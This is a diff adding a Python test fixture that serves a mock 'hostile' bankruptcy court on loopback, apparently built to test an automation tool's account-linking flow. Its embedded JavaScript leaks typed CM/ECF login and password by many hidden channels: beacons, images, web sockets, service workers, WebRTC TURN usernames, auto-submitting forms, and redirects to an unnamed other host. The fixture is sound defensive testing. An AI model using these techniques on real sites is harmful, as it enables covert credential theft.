@@ -1,0 +1,386 @@
+"""A court that means harm: no mock of ours, with other markup, and a trick for every test.
+
+It knows one attorney and links whenever the CM/ECF login and password or the token of its
+verification page reach it, by whatever request, and counts how. It does not prove to be a mock.
+"""
+
+from __future__ import annotations
+
+import html
+import json
+from collections.abc import Awaitable, Callable, Iterator, Mapping
+from contextlib import contextmanager
+from dataclasses import dataclass, field
+from typing import ClassVar, NamedTuple
+from urllib.parse import urlencode
+
+from starlette.applications import Starlette
+from starlette.requests import Request
+from starlette.responses import HTMLResponse, RedirectResponse, Response
+from starlette.routing import Host, Route, Router
+from starlette.types import ASGIApp, Receive, Scope, Send
+
+from e2e.courts.independent import (
+    FULL,
+    LEGAL,
+    LIMITED,
+    QUESTION,
+    TITLE,
+    WARNING,
+    IndependentCourt,
+    free_port,
+    serving,
+)
+
+METHODS = ["GET", "POST", "PUT", "DELETE"]
+
+
+class Link(NamedTuple):
+    """Accounts that were linked for good."""
+
+    how: str
+    """The trick by which it was asked for, or `first Submit` or `second Submit`."""
+    method: str
+
+
+# What a trick does with `told`, the fields of the form as they stand in an address. Each is a
+# promise that settles when it is known what came of it.
+AT_HOME: Mapping[str, str] = {
+    "fetch": "fetch(`/link?how=fetch`, {method: 'POST', body: new URLSearchParams(told)})",
+    "fetch by GET": "fetch(`/link?how=fetch by GET&${told}`)",
+    "request of old": "asked((done) => { const old = new XMLHttpRequest(); old.onloadend = done;"
+    " old.open('PUT', `/link?how=request of old&${told}`); old.send(); })",
+    "beacon": "later(navigator.sendBeacon(`/link?how=beacon&${told}`))",
+    "image": "loaded('img', {src: `/link?how=image&${told}`})",
+    "script": "loaded('script', {src: `/link?how=script&${told}`})",
+    "style": "loaded('link', {rel: 'stylesheet', href: `/link?how=style&${told}`})",
+    "frame": "loaded('iframe', {src: `/link?how=frame&${told}`})",
+    "stream": "asked((done) => { const all = new EventSource(`/link?how=stream&${told}`);"
+    " all.onerror = () => { all.close(); done(); }; })",
+    "web socket": "asked((done) => { const all = new WebSocket(`/link?how=web socket&${told}`);"
+    " all.onclose = all.onerror = done; })",
+    "worker": "asked((done) => { const code = `fetch('${location.origin}/link?how=worker&${told}')"
+    ".finally(() => postMessage(1))`;"
+    " const all = new Worker(URL.createObjectURL(new Blob([code])));"
+    " all.onmessage = all.onerror = done; })",
+    "service worker": "(async () => { await navigator.serviceWorker.register('/worker.js');"
+    " const all = await navigator.serviceWorker.ready; await asked((done) => {"
+    " navigator.serviceWorker.onmessage = done; all.active.postMessage(told); }); })()",
+    "ping": "later(clicked('a', {href: 'javascript:void 0', ping: `/link?how=ping&${told}`}))",
+}
+"""Tricks that leave the page where it is."""
+
+AWAY: Mapping[str, str] = {
+    "form": "sent({method: 'POST', action: '/link?how=form'})",
+    "form by GET": "sent({method: 'GET', action: '/link'})",
+    "form in a pop-up": "sent({method: 'POST', action: '/link?how=form in a pop-up',"
+    " target: '_blank'})",
+    "pop-up": "later(window.open(`/link?how=pop-up&${told}`))",
+    "download": "later(clicked('a', {href: `/link?how=download&${told}`, download: 'it'}))",
+    "address": "later(location.assign(`/link?how=address&${told}`))",
+    "redirect": "later(location.assign(`/onward?how=redirect&${told}`))",
+    "refresh": "loaded('meta', {httpEquiv: 'refresh', content: `0;url=/link?how=refresh&${told}`},"
+    " document.head)",
+    "other host": "sent({method: 'POST', action: 'http://other.hostile.localhost:' + location.port"
+    " + '/link?how=other host'})",
+}
+"""Tricks that leave the page, or open another one."""
+
+CALL = (
+    "(async () => { const all = new RTCPeerConnection({iceServers: [{credential: 'x', "
+    "urls: 'turn:127.0.0.1:%d?transport=tcp', username: told.slice(0, 200)}]}); "
+    "all.createDataChannel('x'); await all.setLocalDescription(await all.createOffer()); "
+    "await later(); })()"
+)
+"""A call from browser to browser by way of a port, which no request sets up."""
+TRICKS: dict[str, str] = {**AT_HOME, **AWAY}
+
+_WAYS = """
+const asked = (ask) => new Promise(ask);
+const later = () => asked((done) => setTimeout(done, 250));
+const made = (tag, has) => {
+  const element = document.createElement(tag);
+  for (const [name, value] of Object.entries(has)) {
+    if (name === 'ping') element.setAttribute(name, value); else element[name] = value;
+  }
+  return element;
+};
+const loaded = (tag, has, place = document.body) => asked((done) => {
+  const element = made(tag, has);
+  element.onload = element.onerror = done;
+  place.append(element);
+});
+const clicked = (tag, has) => {
+  const one = made(tag, has);
+  document.body.append(one);
+  one.click();
+};
+const sent = (has) => {
+  const own = made('form', has);
+  const how = Object.fromEntries(new URLSearchParams(told));
+  own.hidden = true;
+  for (const [name, value] of Object.entries({...how, how: NAME})) {
+    own.append(made('input', {name, value}));
+  }
+  document.body.append(own);
+  own.submit();
+  return later();
+};
+"""
+_WORKER = """
+self.onactivate = (event) => event.waitUntil(self.clients.claim());
+self.onmessage = async (event) => {
+  await fetch(`/link?how=service worker&${event.data}`).catch(() => 0);
+  event.source.postMessage(1);
+};
+"""
+
+
+@dataclass(frozen=True)
+class Trick:
+    """What the court does that an honest one does not."""
+
+    on_input: tuple[str, ...] = ()
+    """What the link form does as soon as login and password stand in it (names of `TRICKS`)."""
+    on_load: bool = False
+    """The link form, filled by the court itself, sends itself as soon as it is there."""
+    links_at_once: bool = False
+    """There is no verification page: the first Submit links."""
+    form_to: str = "/verify"
+    """Where the link form goes."""
+    form_method: str = "POST"
+    names: str = "CM/ECF <b>{login} {name}</b><br>PACER <b>{name}</b>"
+    """What the verification page has for the names, as a pattern with those of the account."""
+    verification: tuple[str, ...] = ()
+    """What the verification page does over and over, as soon as it is there (of `TRICKS`)."""
+    verification_to: str = "/link"
+    confirmation: tuple[str, ...] = ()
+    """What the confirmation does over and over, to link a second pair (of `TRICKS`)."""
+    sent_on: str = ""
+    """Which form is not taken but sent on, with all that stands in it: `/enter` or `/verify`."""
+    sent_on_by: int = 307
+    """The status of that answer."""
+    sent_on_to: str = "http://other.hostile.localhost:{port}/caught"
+    """The address in that answer, as a pattern."""
+
+
+HONEST = Trick()
+
+
+@dataclass
+class HostileCourt(IndependentCourt):
+    """The court as it is served."""
+
+    domain: ClassVar[str] = "hostile.localhost"
+
+    trick: Trick
+    links: list[Link] = field(default_factory=list)
+
+    @property
+    def caught(self) -> list[str]:
+        """What came to a host that nobody named."""
+        return [asked for asked in self.asked if "//other." in asked]
+
+    # Answers
+
+    async def home(self, _: Request) -> Response:
+        """Answer with the home page."""
+        links = {
+            "Case Locator (PACER)": "/locator",
+            "E-Filing (CM/ECF)": self.sign_on,
+            "E-Filing Proof of Claim": "/claim",
+            "E-Filing Debtor Education": "/education",
+        }
+        listed = "".join(f"<p><a href='{to}'>{words}</a></p>" for words, to in links.items())
+        return _page("<h1>Court of Harm</h1><section class='welcome-links'>", listed, "</section>")
+
+    async def login(self, _: Request) -> Response:
+        """Answer with the sign-on page."""
+        return _page(
+            "<main><h1>Wisconsin Western Bankruptcy Court NextGen Login</h1>",
+            "<form method='post' action='/enter'><p>* Required information</p>",
+            "<label>Username * <input name='who'></label>",
+            "<label>Password * <input name='secret' type='password'></label>",
+            "<label>Client Code <input name='code'></label>",
+            "<button>Login</button> <button type='reset'>Clear</button>",
+            "<p><a href='/p'>Forgot password?</a> <a href='/u'>Forgot username?</a> ",
+            f"<a href='/n'>Need an account?</a></p></form><p>{LEGAL}</p></main>",
+        )
+
+    async def enter(self, request: Request) -> Response:
+        """Sign on, and go to CM/ECF."""
+        async with request.form() as form:
+            right = (self.account.username, self.account.password)
+            if (form.get("who"), form.get("secret")) != right:
+                return _page("<p role='alert'>Login Failed</p>")
+        return RedirectResponse(f"{self.cmecf}menu", 303)
+
+    async def menu(self, _: Request) -> Response:
+        """Answer with the menu bar, which turns full by linking."""
+        return _page(self._bar(), "<p>Welcome.</p>")
+
+    async def utilities(self, _: Request) -> Response:
+        """Answer with the Utilities menu."""
+        item = "<li><a href='/form'>Link a CM/ECF Account to my PACER Account</a></li>"
+        group = "NextGen Release 1.1 Menu Items"
+        return _page(self._bar(), f"<h3><a href='#g'>{group}</a></h3><ul id='g'>{item}</ul>")
+
+    async def form(self, _: Request) -> Response:
+        """Answer with the link form."""
+        own, trick = self.account, self.trick
+        filled = (own.login, own.cmecf_password) if trick.on_load else ("", "")
+        return _page(
+            self._bar(),
+            f"<h1>{TITLE}</h1>",
+            f"<form method='{trick.form_method}' action='{trick.form_to}'>",
+            f"<p><label>CM/ECF login <input name='login' value='{filled[0]}'></label></p>",
+            "<p><label>CM/ECF password ",
+            f"<input name='key' type='password' value='{filled[1]}'></label></p>",
+            "<button>Submit</button> <button type='reset'>Clear</button></form>",
+            _script("form.addEventListener('input', tried)", trick.on_input),
+            "<script>document.forms[0].submit()</script>" if trick.on_load else "",
+        )
+
+    async def verify(self, request: Request) -> Response:
+        """Take the link form, and ask for verification."""
+        async with request.form() as form:
+            if not self._is_right(str(form.get("login")), str(form.get("key"))):
+                return _page(self._bar(), "<p role='alert'>Wrong login or password.</p>")
+        if self.trick.links_at_once:
+            self.links.append(Link("first Submit", request.method))
+            return RedirectResponse("/linked", 303)
+        names = self.trick.names.format(
+            login=html.escape(self.account.login), name=html.escape(self.account.name)
+        )
+        return _page(
+            self._bar(),
+            f"<h1>{TITLE}</h1><p>{QUESTION}</p><p>{names}</p><p>{WARNING}</p>",
+            f"<form method='post' action='{self.trick.verification_to}'>",
+            "<input type='hidden' name='token' value='grimm'>",
+            "<button>Submit</button> <button type='reset'>Clear</button></form>",
+            _script("tried(); setInterval(tried, 20)", self.trick.verification),
+        )
+
+    async def link(self, request: Request) -> Response:
+        """Link the accounts if whoever asks has what that takes."""
+        async with request.form() as form:
+            told = {**request.query_params, **{name: str(form[name]) for name in form}}
+        is_right = self._is_right(told.get("login", ""), told.get("key", ""))
+        if is_right or told.get("token"):
+            self.links.append(Link(told.get("how", "second Submit"), request.method))
+        return RedirectResponse("/linked", 303)
+
+    async def linked(self, _: Request) -> Response:
+        """Confirm that the accounts are linked."""
+        return _page(
+            self._bar(),
+            f"<h1>{TITLE}</h1><p>Your PACER account has been linked to your CM/ECF account</p>",
+            "<p>You should also receive an e-mail notification acknowledgement.</p>",
+            "<form hidden><input name='token' value='second'></form>",
+            _script("tried(); setInterval(tried, 20)", self.trick.confirmation),
+        )
+
+    async def onward(self, request: Request) -> Response:
+        """Lead on to linking."""
+        return RedirectResponse(f"/link?{urlencode(list(request.query_params.items()))}", 302)
+
+    async def worker(self, _: Request) -> Response:
+        """Answer with the service worker."""
+        return Response(_WORKER, media_type="text/javascript")
+
+    def _bar(self) -> str:
+        items = FULL if self.links else LIMITED
+        links = "".join(
+            f"<a role='menuitem' href='/{'utilities' if item == 'Utilities' else 'menu'}'>"
+            f"{item}</a> "
+            for item in items
+        )
+        return f"<div role='menubar'>{links}</div>"
+
+    def _is_right(self, login: str, password: str) -> bool:
+        return (login, password) == (self.account.login, self.account.cmecf_password)
+
+
+def _page(*parts: str) -> Response:
+    text = (
+        f"<!doctype html><html lang='en'><title>Court</title><body>{''.join(parts)}</body></html>"
+    )
+    return HTMLResponse(text)
+
+
+def _script(begin: str, names: tuple[str, ...]) -> str:
+    """Return the script that plays tricks once login and password, or a token, are there."""
+    if not names:
+        return ""
+    played = "\n".join(
+        f"await (async () => {{ const NAME = {json.dumps(name)}; {_WAYS}"
+        f" await Promise.race([{TRICKS[name]}, later()]); }})().catch(() => 0);"
+        for name in names
+    )
+    return f"""<script>
+const form = document.forms[0];
+let told = '', isPlaying = false;
+const tried = () => {{
+  const has = new FormData(form);
+  // With what a walk enters to try Clear nobody can be linked.
+  if (isPlaying || [...has.values()].some((value) => !value || value === 'probe')) return;
+  isPlaying = true;
+  told = new URLSearchParams(has).toString();
+  window.played = (async () => {{ {played} isPlaying = false; return true; }})();
+}};
+{begin};
+</script>"""
+
+
+@contextmanager
+def hostile_court(trick: Trick = HONEST) -> Iterator[HostileCourt]:
+    """Serve the court on a free port of loopback."""
+    with free_port() as (listening, port):
+        court = HostileCourt(port, trick)
+        with serving(_app(court), listening):
+            yield court
+
+
+def _app(court: HostileCourt) -> ASGIApp:
+    sites: Mapping[str, Mapping[str, Callable[[Request], Awaitable[Response]]]] = {
+        "www": {"/": court.home},
+        "login": {"/": court.login, "/enter": court.enter},
+        "ecf": {
+            "/menu": court.menu,
+            "/utilities": court.utilities,
+            "/form": court.form,
+            "/verify": court.verify,
+            "/link": court.link,
+            "/linked": court.linked,
+            "/onward": court.onward,
+            "/worker.js": court.worker,
+        },
+        # Nobody named this one in the configuration.
+        "other": {"/link": court.link, "/linked": court.linked, "/caught": court.linked},
+    }
+    app = Starlette(
+        routes=[
+            Host(
+                f"{name}.hostile.localhost",
+                Router([Route(path, answer, methods=METHODS) for path, answer in paths.items()]),
+            )
+            for name, paths in sites.items()
+        ]
+    )
+    return _Noting(app, court)
+
+
+class _Noting:
+    def __init__(self, app: Starlette, court: HostileCourt) -> None:
+        self._app = app
+        self._court = court
+
+    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
+        request = Request(scope)
+        self._court.asked.append(f"{request.method} {request.url}")
+        trick = self._court.trick
+        answer: ASGIApp = self._app
+        if request.url.path == trick.sent_on:
+            to = trick.sent_on_to.format(port=self._court.port)
+            answer = RedirectResponse(to, trick.sent_on_by)
+        await answer(scope, receive, send)
